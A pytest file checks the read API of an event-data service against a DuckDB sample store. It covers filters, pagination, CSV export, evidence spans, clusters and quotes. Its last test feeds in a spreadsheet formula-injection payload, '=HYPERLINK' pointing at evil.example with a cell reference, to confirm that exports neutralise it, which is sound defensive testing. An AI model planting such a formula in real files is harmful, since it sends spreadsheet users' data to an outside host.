"""The read endpoints over the sample store, checked against the store itself."""

from __future__ import annotations

import csv
import io
import json

import duckdb
import pytest

from thucydides.schema import CSV_COLUMNS


@pytest.fixture(scope="module")
def truth(sample_db):
    con = duckdb.connect(str(sample_db), read_only=True)
    yield con
    con.close()


def count(truth, sql: str, *params) -> int:
    return truth.execute(sql, list(params)).fetchone()[0]


def test_summary_matches_store(client, truth):
    body = client.get("/api/summary").json()
    assert body["articles"] == count(truth, "SELECT count(*) FROM articles") == 102
    assert body["events"] == count(truth, "SELECT count(*) FROM events") > 100
    assert body["snapshot_at"]


def test_events_pages_are_disjoint_and_complete(client, truth):
    first = client.get("/api/events", params={"limit": 30, "sort": "date"}).json()
    second = client.get("/api/events", params={"limit": 30, "offset": 30, "sort": "date"}).json()
    assert first["total"] == count(truth, "SELECT count(*) FROM events")
    ids1, ids2 = {e["id"] for e in first["events"]}, {e["id"] for e in second["events"]}
    assert len(ids1) == len(ids2) == 30 and not ids1 & ids2
    dates = [e["date"] for e in first["events"] + second["events"]]
    assert dates == sorted(dates)


@pytest.mark.parametrize(
    ("params", "check"),
    [
        ({"actor": "rus"}, lambda e: any(a and a["code"].startswith("RUS") for a in (e["source"], e["target"]))),
        ({"quad": [3, 4]}, lambda e: e["quad"] in (3, 4)),
        ({"code": "17"}, lambda e: e["code"].startswith("17")),
        ({"root": "04"}, lambda e: e["root"] == "04"),
        ({"country": "ukr"}, lambda e: "UKR" in {a and a["country"] for a in (e["source"], e["target"])}),
        ({"role": "MIL"}, lambda e: "MIL" in {a and a["role"] for a in (e["source"], e["target"])}),
        ({"q": "SANCTIONS"}, lambda e: "sanctions" in e["sentence"]["text"].lower()),
        ({"from": "2022-01-01", "to": "2022-12-31"}, lambda e: e["date"].startswith("2022")),
        ({"modality": "asserted"}, lambda e: e["modality"] == "asserted"),
        ({"source": "USA", "target": "RUS", "directed": "false"}, lambda e: {e["source"]["code"][:3], e["target"]["code"][:3]} == {"USA", "RUS"}),
    ],
)
def test_event_filters(client, params, check):
    body = client.get("/api/events", params={**params, "limit": 500}).json()
    everything = client.get("/api/events", params={"limit": 1}).json()["total"]
    assert 0 < body["total"] < everything, params
    assert len(body["events"]) == min(body["total"], 500)
    assert all(check(e) for e in body["events"]), params


def test_directed_pair_is_a_subset(client):
    both = client.get("/api/events", params={"source": "USA", "target": "RUS", "directed": "false"}).json()["total"]
    one = client.get("/api/events", params={"source": "USA", "target": "RUS"}).json()["total"]
    other = client.get("/api/events", params={"source": "RUS", "target": "USA"}).json()["total"]
    assert both == one + other


def test_located_filter_splits_the_events(client):
    located = client.get("/api/events", params={"located": "true", "limit": 500}).json()
    unlocated = client.get("/api/events", params={"located": "false", "limit": 1}).json()["total"]
    assert located["total"] + unlocated == client.get("/api/summary").json()["events"]
    assert located["total"] == client.get("/api/summary").json()["located_events"]
    for ev in located["events"]:
        assert -90 <= ev["point"]["lat"] <= 90 and -180 <= ev["point"]["lon"] <= 180


def test_csv_export_has_the_export_columns(client):
    res = client.get("/api/events", params={"format": "csv", "limit": 10000, "actor": "USA"})
    assert res.status_code == 200 and res.headers["content-type"].startswith("text/csv")
    assert "attachment" in res.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(res.text)))
    assert tuple(rows[0]) == CSV_COLUMNS
    total = client.get("/api/events", params={"actor": "USA"}).json()["total"]
    assert len(rows) - 1 == total


def test_event_evidence_spans_index_the_article(client):
    ev = client.get("/api/events", params={"limit": 1, "q": "detained"}).json()["events"][0]
    detail = client.get(f"/api/events/{ev['id']}").json()
    article = client.get(f"/api/articles/{ev['article_id']}").json()
    evidence = detail["evidence"]
    assert evidence["rule"] and evidence["modality"] and evidence["article_url"] == article["url"]
    assert {s["role"] for s in evidence["spans"]} >= {"source", "event"}
    for span in evidence["spans"]:
        assert article["text"][span["start"] : span["end"]] == span["text"]
        assert evidence["sentence"][span["sentence_start"] : span["sentence_end"]] == span["text"]
    assert detail["code_name"]


def test_article_has_text_actors_and_events(client, truth):
    article = client.get("/api/articles/sample-001").json()
    assert article["title"].startswith("Venezuela")
    assert len(article["events"]) == count(truth, "SELECT count(*) FROM events WHERE article_id = 'sample-001'")
    assert article["actors"]
    for actor in article["actors"]:
        assert article["text"][actor["start"] : actor["end"]] == actor["text"]
    for ev in article["events"]:
        span = ev["event_text"]
        assert article["text"][span["start"] : span["end"]] == span["text"]


def test_dyads_add_up(client, truth):
    dyads = client.get("/api/dyads", params={"limit": 5000}).json()["dyads"]
    assert sum(d["events"] for d in dyads) == count(
        truth, "SELECT count(*) FROM events WHERE source_code IS NOT NULL AND target_code IS NOT NULL"
    )
    assert all(sum(d["quad"].values()) == d["events"] for d in dyads)
    assert [d["events"] for d in dyads] == sorted((d["events"] for d in dyads), reverse=True)
    monthly = client.get("/api/dyads", params={"limit": 5000, "interval": "month"}).json()["dyads"]
    assert sum(d["events"] for d in monthly) == sum(d["events"] for d in dyads)
    assert all(d["period"].endswith("-01") for d in monthly)


def test_actors_count_both_roles(client):
    actors = client.get("/api/actors", params={"limit": 20}).json()["actors"]
    assert actors and all(a["as_source"] + a["as_target"] == a["events"] for a in actors)
    found = client.get("/api/actors", params={"search": "rus"}).json()["actors"]
    assert found and all(a["code"].startswith("RUS") or "rus" in (a["name"] or "").lower() for a in found)


def test_timeline_adds_up(client, truth):
    periods = client.get("/api/timeline", params={"interval": "year"}).json()["periods"]
    assert sum(p["events"] for p in periods) == count(truth, "SELECT count(*) FROM events")
    assert sum(p["articles"] for p in periods) == count(truth, "SELECT count(*) FROM articles WHERE date IS NOT NULL")
    russia = client.get("/api/timeline", params={"interval": "year", "actor": "RUS"}).json()["periods"]
    assert 0 < sum(p["events"] for p in russia) < sum(p["events"] for p in periods)


def test_openapi_lists_the_endpoints(client):
    paths = client.get("/api/openapi.json").json()["paths"]
    for path in ("/api/events", "/api/events/{event_id}", "/api/articles/{article_id}", "/api/dyads", "/api/actors", "/api/timeline"):
        assert path in paths


def test_unique_events_leave_out_repeated_mentions(client, truth):
    clusters = count(truth, "SELECT count(*) FROM event_clusters")
    repeated = count(truth, "SELECT count(*) FROM event_clusters WHERE num_mentions > 1")
    unclustered = count(truth, "SELECT count(*) FROM events WHERE id NOT IN (SELECT event_id FROM event_mentions)")
    assert repeated > 0, "the sample corpus reports some events more than once"
    unique = client.get("/api/events", params={"unique": "true", "limit": 500}).json()
    assert unique["total"] == clusters + unclustered < client.get("/api/summary").json()["events"]
    assert client.get("/api/summary").json()["clusters"] == clusters
    ids = {e["id"] for e in unique["events"]}
    ids |= {e["id"] for e in client.get("/api/events", params={"unique": "true", "limit": 500, "offset": 500}).json()["events"]}
    assert len(ids) == unique["total"]
    representatives = {r[0] for r in truth.execute("SELECT event_id FROM event_clusters").fetchall()}
    assert representatives <= ids
    timeline = client.get("/api/timeline", params={"interval": "year", "unique": "true"}).json()["periods"]
    assert sum(p["events"] for p in timeline) == unique["total"]


def test_event_lists_its_cluster_and_mentions(client, truth):
    cluster_id, rep, n = truth.execute(
        "SELECT cluster_id, event_id, num_mentions FROM event_clusters WHERE num_mentions > 1 ORDER BY cluster_id LIMIT 1"
    ).fetchone()
    other = truth.execute(
        "SELECT event_id FROM event_mentions WHERE cluster_id = ? AND event_id <> ? LIMIT 1", [cluster_id, rep]
    ).fetchone()[0]
    detail = client.get(f"/api/events/{other}").json()
    cluster = detail["cluster"]
    assert cluster["id"] == cluster_id and cluster["num_mentions"] == n and cluster["representative"] == rep
    assert [m["event_id"] for m in cluster["mentions"]][0] == rep
    assert {m["event_id"] for m in cluster["mentions"]} >= {rep, other} and len(cluster["mentions"]) == n
    assert all(m["sentence"] for m in cluster["mentions"])
    listed = client.get("/api/events", params={"article": detail["article_id"], "limit": 500}).json()["events"]
    assert next(e for e in listed if e["id"] == other)["cluster"]["num_mentions"] == n


def test_quotes_name_their_speakers_and_index_the_article(client, truth):
    body = client.get("/api/quotes", params={"limit": 500}).json()
    assert body["total"] == count(truth, "SELECT count(*) FROM quotes") > 5
    article = client.get(f"/api/articles/{body['quotes'][0]['article_id']}").json()
    first = body["quotes"][0]
    assert article["text"][first["start"] : first["end"]] == first["text"]
    spoken = client.get("/api/quotes", params={"speaker": "usa"}).json()["quotes"]
    assert spoken and all(q["speaker_code"].startswith("USA") for q in spoken)
    assert client.get("/api/quotes", params={"speaker": "not a code"}).status_code == 422


def test_csv_cells_that_would_run_as_formulas_are_quoted(tmp_path):
    # Stored text is input: opened in a spreadsheet, "=HYPERLINK(...)" would run.
    from fastapi.testclient import TestClient
    from typer.testing import CliRunner

    from thucydides.api import create_app
    from thucydides.cli import _register_commands, app

    _register_commands()
    corpus = tmp_path / "formula.jsonl"
    text = '=HYPERLINK("https://evil.example/?"&A1,"x") Turkish police detained 1,879 protesters in Istanbul.'
    corpus.write_text('{"id": "f1", "text": ' + json.dumps(text) + "}\n", encoding="utf-8")
    db = tmp_path / "events.duckdb"
    assert CliRunner().invoke(app, ["ingest", str(corpus), "--db", str(db)]).exit_code == 0
    exported = CliRunner().invoke(app, ["export", "--db", str(db), "--format", "csv"]).stdout
    coded = CliRunner().invoke(app, ["code", str(corpus), "--format", "csv"]).stdout
    with TestClient(create_app(db, snapshot_dir=tmp_path), base_url="http://localhost") as c:
        served = c.get("/api/events", params={"format": "csv"}).text
    for table in (exported, coded, served):
        (row,) = list(csv.DictReader(io.StringIO(table)))
        assert row["sentence_text"] == "'" + text and row["code"] == "173"
        assert row["goldstein"] == "-5.0"  # numbers are left as they are
